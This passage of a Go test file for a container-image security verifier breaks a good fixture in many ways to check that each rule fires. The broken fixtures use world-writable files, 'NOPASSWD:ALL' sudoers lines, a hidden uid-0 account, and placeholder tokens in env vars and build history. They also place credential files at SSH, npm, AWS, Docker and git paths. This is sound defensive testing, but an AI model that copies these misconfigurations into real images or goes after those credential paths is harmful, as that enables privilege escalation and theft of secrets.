+		"capability": func(f *fixture) { f.privileged("/usr/bin/x", 0o755, privilege.Capability) },
+	},
+	"privilege-writable": {
+		"a file": func(f *fixture) { f.privileged("/etc/x", 0o666, privilege.WorldWritable) },
+	},
+	"privilege-device": {
+		"a disk, though named": func(f *fixture) {
+			f.want.Privileged = []string{"/dev/*"}
+			f.privileged("/dev/sda", 0o600, privilege.Device)
+		},
+	},
+	"privilege-sudo": {
+		"gem":       func(f *fixture) { f.surface.Privilege.Sudo = []tree.Note{{Text: "gem ALL=(ALL) NOPASSWD:ALL"}} },
+		"everybody": func(f *fixture) { f.surface.Privilege.Sudo = []tree.Note{{Text: "ALL ALL=(ALL) NOPASSWD:ALL"}} },
+		"a member":  func(f *fixture) { f.surface.Privilege.Sudo = []tree.Note{{Text: "%gem\tALL=(ALL) ALL"}} },
+		"root, with the program": func(f *fixture) {
+			f.base = append(f.base, image.Bytes("/usr/bin/sudo", 0o4755, nil))
+			f.surface.Privilege.Sudo = []tree.Note{{Text: "root ALL=(ALL) ALL"}}
+		},
+	},
+	"account-login": {
+		"a shell": func(f *fixture) {
+			f.addUser(privilege.User{Name: "x", UID: 5, GID: 5, Shell: "/bin/bash", Password: "locked"})
+		},
+		"the default shell": func(f *fixture) { f.addUser(privilege.User{Name: "x", UID: 5, GID: 5, Password: "locked"}) },
+		"a password": func(f *fixture) {
+			f.addUser(privilege.User{Name: "x", UID: 5, GID: 5, Shell: "/usr/sbin/nologin", Password: "set"})
+		},
+		"an empty password": func(f *fixture) { f.surface.Privilege.Users[1].Password = "none" },
+	},
+	"account-root": {
+		"by another name": func(f *fixture) {
+			f.addUser(privilege.User{Name: "toor", Shell: "/usr/sbin/nologin", Password: "locked"})
+		},
+		"in root's group": func(f *fixture) { f.surface.Privilege.Users[1].GID = 0 },
+		"in another group": func(f *fixture) {
+			f.surface.Privilege.Groups = append(f.surface.Privilege.Groups, privilege.Group{Name: "disk", GID: 6, Members: []string{"gem"}})
+		},
+	},
+	"secret-env": {
+		"by its name":  func(f *fixture) { f.surface.Config.Env["OPENAI_API_KEY"] = "abc" },
+		"by its shape": func(f *fixture) { f.surface.Config.Env["X"] = "ghp_" + strings.Repeat("a", 36) },
+		"in an URL":    func(f *fixture) { f.surface.Config.Env["INDEX"] = "https://user:hunter2@pypi.example/simple" },
+		"a switch":     func(f *fixture) { f.surface.Config.Env["SANDBOX_API_KEY"] = "baked" },
+	},
+	"secret-history": {
+		"ENV":    func(f *fixture) { f.config.History = []v1.History{{CreatedBy: "ENV NPM_TOKEN=abcdef"}} },
+		"an ARG": func(f *fixture) { f.config.History = []v1.History{{CreatedBy: `|1 GITHUB_TOKEN=abc /bin/sh -c true`}} },
+		"a shape": func(f *fixture) {
+			f.config.History = []v1.History{{CreatedBy: "RUN curl -H 'Authorization: Bearer ghp_" + strings.Repeat("a", 36) + "'"}}
+		},
+		"an empty layer's comment": func(f *fixture) { f.config.History = []v1.History{{EmptyLayer: true, Comment: "PASSWORD=hunter2"}} },
+	},
+	"secret-file": {
+		"ssh": func(f *fixture) { f.base = append(f.base, text("/root/.ssh/id_ed25519", "key")) },
+		"npm": func(f *fixture) { f.base = append(f.base, text("/root/.npmrc", "//registry/:_authToken=abc")) },
+		"docker": func(f *fixture) {
+			f.base = append(f.base, text("/root/.docker/config.json", `{"auths":{"x":{"auth":"dXNlcg=="}}}`))
+		},
+		"netrc":      func(f *fixture) { f.base = append(f.base, text("/root/.netrc", "machine x login y password z")) },
+		"git":        func(f *fixture) { f.base = append(f.base, text("/root/.git-credentials", "https://u:p@x")) },
+		"aws":        func(f *fixture) { f.base = append(f.base, text("/root/.aws/credentials", "[default]")) },
+		"history":    func(f *fixture) { f.base = append(f.base, text("/home/gem/.bash_history", "ls")) },
+		"by content": func(f *fixture) { f.addAbove(text("/srv/notes.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\n")) },
+		"hidden": func(f *fixture) {
+			f.addAbove(text("/root/.ssh/id_rsa", "key"))
+			f.addAbove(image.Whiteout("/root/.ssh/id_rsa"))
+		},
+		"env file": func(f *fixture) { f.base = append(f.base, text("/app/.env", "DB_PASSWORD=hunter2")) },
+	},
+	"platform": {
+		"missing": func(*fixture) {}, // TestPlatforms has the others
+	},
+	"platform-differs": {
+		"a variable": func(*fixture) {}, // TestPlatforms has the others
+	},
+	"not-understood": {
+		"a note":           func(f *fixture) { f.surface.Notes = []tree.Note{{Text: "what is this?"}} },
+		"supervisord's":    func(f *fixture) { f.surface.Supervisord.Notes = []tree.Note{{Text: "what is this?"}} },
+		"the accounts'":    func(f *fixture) { f.surface.Privilege.Notes = []tree.Note{{Text: "what is this?"}} },
+		"the start's":      func(f *fixture) { f.surface.Start.Notes = []tree.Note{{Text: "what is this?"}} },
+		"the MCP server's": func(f *fixture) { f.surface.MCP.Notes = []tree.Note{{Text: "what is this?"}} },
+	},
+	"not-read": {
+		"MCP":      func(f *fixture) { f.surface.MCP = nil },
+		"start":    func(f *fixture) { f.surface.Start = nil },
+		"accounts": func(f *fixture) { f.surface.Privilege = nil },
+		"programs": func(f *fixture) { f.surface.Supervisord = nil },
+		"files":    func(f *fixture) { f.want.Files = []expect.File{} },
+	},
+}
+
+func TestGoodImagePasses(t *testing.T) {
+	r := check(t, good().input(t))
+	for _, f := range r.Findings {
+		t.Errorf("%s: %s %v", f.Rule, f.Message, f.Places)
+	}
+	if !r.Passed || len(r.Rules) < 50 {
+		t.Errorf("passed %v with %d rules", r.Passed, len(r.Rules))
+	}
+}
+
+// Every rule finds what it is about, and says all that a reader needs.
+func TestEveryRuleFinds(t *testing.T) {
+	for _, rule := range verify.Rules() {
+		if rule.Dynamic {
+			continue
+		}
+		cases := broken[rule.ID]
+		if len(cases) == 0 {
+			t.Errorf("rule %s has no case", rule.ID)
+		}
+		for name, breakIt := range cases {
+			t.Run(rule.ID+"/"+name, func(t *testing.T) {
+				f := good()
+				breakIt(f)
+				in := f.input(t)
+				if strings.HasPrefix(rule.ID, "platform") {
+					in = twoPlatforms(t)
+					if rule.ID == "platform" {
+						in.Images = in.Images[:1]
+					} else {
+						in.Images[1].Surface.Config.Env["ONLY"] = "here"
+					}
+				}
+				r := check(t, in)
+				for _, found := range r.Findings {
+					if found.Rule != rule.ID {
+						continue
+					}
+					if found.Message == "" || found.Severity != rule.Severity || found.Fix == "" || found.Platform == "" && rule.ID != "base-annotation" {
+						t.Errorf("%+v", found)
+					}
+					if r.Passed != (rule.Severity != verify.Error && !hasError(r)) {
+						t.Errorf("passed is %v", r.Passed)
+					}
+					return
+				}
+				t.Errorf("nothing found; there are %v", ruleIDs(r))
+			})
+		}
+	}
+	for id := range broken {
+		found := false
+		for _, rule := range verify.Rules() {
+			found = found || rule.ID == id
+		}
+		if !found {
+			t.Errorf("there is no rule %s", id)
+		}
+	}
+}
+
+func hasError(r *verify.Report) bool {
+	for _, f := range r.Findings {
+		if f.Severity == verify.Error {
+			return true
+		}
+	}
+	return false
+}
+
+// twoPlatforms is an image for both. The second one's programs are of the wrong machine: rules about files say so.
+func twoPlatforms(t *testing.T) verify.Input {
+	t.Helper()
+	in := good().input(t)
+	arm := good()
+	arm.config.Architecture = "arm64"
+	other := arm.input(t)
+	other.Images[0].Platform.Variant = "v8" // which linux/arm64 means
+	in.Images = append(in.Images, other.Images...)
+	in.Expect["linux/arm64"] = other.Expect["linux/arm64"]
+	return in
+}
+
+func TestPlatforms(t *testing.T) {
+	for name, tt := range map[string]struct {
+		change func(in *verify.Input)
+		rule   string // none when empty
+		says   string
+	}{
+		"both":       {func(*verify.Input) {}, "", ""},
+		"one":        {func(in *verify.Input) { in.Images = in.Images[:1] }, "platform", "there is no image for linux/arm64"},
+		"unverified": {func(in *verify.Input) { delete(in.Expect, "linux/arm64") }, "platform", "linux/arm64, which the profile does not have"},
+		"another":    {func(in *verify.Input) { in.Images[1].Platform.Variant = "v7" }, "platform", "linux/arm64/v7"},
+		"twice":      {func(in *verify.Input) { in.Images = append(in.Images, in.Images[0]) }, "platform", "several images for linux/amd64"},
+		"program":    {func(in *verify.Input) { in.Images[1].Surface.Programs[0].Command += " --x" }, "platform-differs", "--x"},
+		"route":      {func(in *verify.Input) { in.Images[0].Surface.Routes = []nginx.Route{{Path: "/v1"}} }, "platform-differs", "/v1"},
+		"account":    {func(in *verify.Input) { in.Images[1].Surface.Privilege.Users[1].Shell = "/bin/false" }, "platform-differs", "/bin/false"},
+		"tool":       {func(in *verify.Input) { in.Images[1].Surface.MCP.Configs[0].Servers[0].Tools = nil }, "platform-differs", "browser_shell"},
+		"base":       {func(in *verify.Input) { in.Expect["linux/arm64"].Base.Layers = []string{"sha256:0"} }, "platform-differs", "not both made from the base"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			in := twoPlatforms(t)
+			tt.change(&in)
+			r := check(t, in)
+			said := false
+			for _, f := range r.Findings {
+				if strings.HasPrefix(f.Rule, "platform") {
+					said = said || f.Rule == tt.rule && strings.Contains(f.Message, tt.says)
+					if tt.rule == "" {
+						t.Errorf("%s: %s", f.Rule, f.Message)
+					}
+				}
+			}
+			if tt.rule != "" && !said {
+				t.Errorf("nothing says %q: %+v", tt.says, r.Findings)
+			}
+		})
+	}
+}
+
+func TestRulesAreWritten(t *testing.T) {
+	seen := map[string]bool{}
+	holes := map[string]bool{}
+	last := ""
+	for _, r := range verify.Rules() {
+		if seen[r.ID] {
+			t.Errorf("%s is there twice", r.ID)
+		}
+		seen[r.ID] = true
+		for _, s := range []string{r.Title, r.Why, r.Fix} {
+			if len(s) < 12 || strings.ContainsAny(s, "\n\t|") && !strings.Contains(s, "(sse|message|mcp)") {
+				t.Errorf("%s says %q", r.ID, s)
+			}
+		}
+		if !strings.HasSuffix(r.Why, ".") || !strings.HasSuffix(r.Fix, ".") || strings.HasSuffix(r.Title, ".") {
+			t.Errorf("%s: why and fix are sentences, the title is none", r.ID)
+		}
+		if r.Severity != verify.Error && r.Severity != verify.Warning && r.Severity != verify.Info {
+			t.Errorf("%s: severity %q", r.ID, r.Severity)
+		}
+		if !r.Dynamic {
+			if r.ID < last {
+				t.Errorf("%s comes after %s", r.ID, last)
+			}
+			last = r.ID
+			for _, h := range r.Holes {
+				holes[h] = true
+			}
+		}
+	}
+	for _, h := range strings.Split("abcdefghijklm", "") {
+		if !holes[h] {
+			t.Errorf("no rule finds hole %s", h)
+		}
+	}
+}
